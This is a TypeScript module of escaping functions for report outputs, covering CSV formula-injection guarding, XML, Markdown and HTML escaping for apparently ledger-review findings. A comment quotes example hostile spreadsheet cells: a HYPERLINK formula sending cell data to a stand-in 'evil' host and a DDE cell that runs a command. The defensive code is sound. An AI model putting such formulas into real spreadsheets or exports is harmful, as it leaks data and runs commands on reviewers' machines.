/**
 * Escaping for the reporters' output formats: spreadsheet cells (formula injection, RFC 4180 quoting), XML and
 * Markdown. Pure string functions; every writer that targets one of these formats goes through them.
 */

/**
 * Characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`,
 * and tab or carriage return, which Excel strips before looking at the next character. The full-width forms
 * (＝ ＋ － ＠) are guarded too: ledgers are typed with Chinese input methods, and whether a spreadsheet in a
 * CJK locale treats them as formula starters is not documented, so they get the same treatment.
 */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** A plain decimal number ("-12.5", "+3", "-1e5"): a spreadsheet reads it as that number, never as a formula. */
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/**
 * Formula-injection guard for every spreadsheet-bound writer (CSV now, xlsx later).
 *
 * A finding quotes ledger text (township and village names, raw cell values, file and sheet names) that came
 * from whoever filled in the ledger. Opened in Excel, WPS or LibreOffice, a cell such as
 * `=HYPERLINK("http://evil/?"&A1,"点击")` or `=cmd|' /C calc'!A0` (DDE) is evaluated: it can leak the other
 * cells or run commands on the reviewer's machine. OWASP's remedy is to make such a cell text by prefixing a
 * single quote; the spreadsheet then shows the text as written (CSV has no other way to say "this is text").
 *
 * Only a cell whose text as a whole could be read as a formula is guarded: a plain number such as "-12.5" is
 * read as the number -12.5 (nothing is evaluated), so it is left alone and stays numeric; "-12.5+1" or
 * "-A1" would be evaluated and are guarded. The guard looks at the first character only: text with a leading
 * space is not a formula.
 */
export function guardFormula(text: string): string {
  if (!FORMULA_START.test(text) || PLAIN_NUMBER.test(text)) return text;
  return `'${text}`;
}

/** RFC 4180: quote a field holding a comma, a double quote, CR or LF; double the quotes inside. */
export function csvField(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One spreadsheet cell of a CSV file: guarded against formulas, then quoted. */
export function csvCell(value: string | number | null): string {
  return csvField(guardFormula(value === null ? '' : String(value)));
}

/**
 * Characters XML 1.0 does not allow at all, even as character references (§2.2 Char): C0 controls other than
 * tab, LF and CR, lone surrogates, U+FFFE and U+FFFF. They are removed: a parser rejects the whole document
 * otherwise.
 */
const XML_INVALID = /[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/gu;

export function stripInvalidXml(text: string): string {
  return text.replace(XML_INVALID, '');
}

/** Text content of an XML element. CR is written as a reference, since parsers turn a literal CR into LF. */
export function xmlText(text: string): string {
  return stripInvalidXml(text)
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/\r/g, '&#13;');
}

/**
 * A double-quoted XML attribute value. Tab, LF and CR are written as references: a parser normalizes literal
 * white space in attributes to spaces (§3.3.3), which would lose the line breaks of a message.
 */
export function xmlAttr(text: string): string {
  return xmlText(text)
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&apos;')
    .replace(/\t/g, '&#9;')
    .replace(/\n/g, '&#10;');
}

/**
 * Text inside a Markdown table cell (GitHub / GitLab flavoured): backslash-escape the characters that start
 * inline markup (masked IDs such as `4510**********0223` would otherwise turn bold), `|` (cell separator) and
 * `<` `>` `&` (raw HTML and entities); line breaks become spaces, since a table row is one line.
 */
export function markdownText(text: string): string {
  return text.replace(/[\\`*_[\]<>|~&]/g, (ch) => `\\${ch}`).replace(/\r\n|[\r\n]/g, ' ');
}

/** An identifier in a code span when it can be written as one safely, escaped text otherwise. */
export function markdownCode(text: string): string {
  return /^[\w.:/-]+$/.test(text) ? `\`${text}\`` : markdownText(text);
}

/**
 * Text or a double-quoted attribute value in HTML: `&`, `<`, `>`, `"` and `'` become references, so ledger
 * text (a village typed as `<script>`) renders as the text it is and can never open an element or attribute.
 */
export function htmlText(text: string): string {
  return text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&#39;');
}
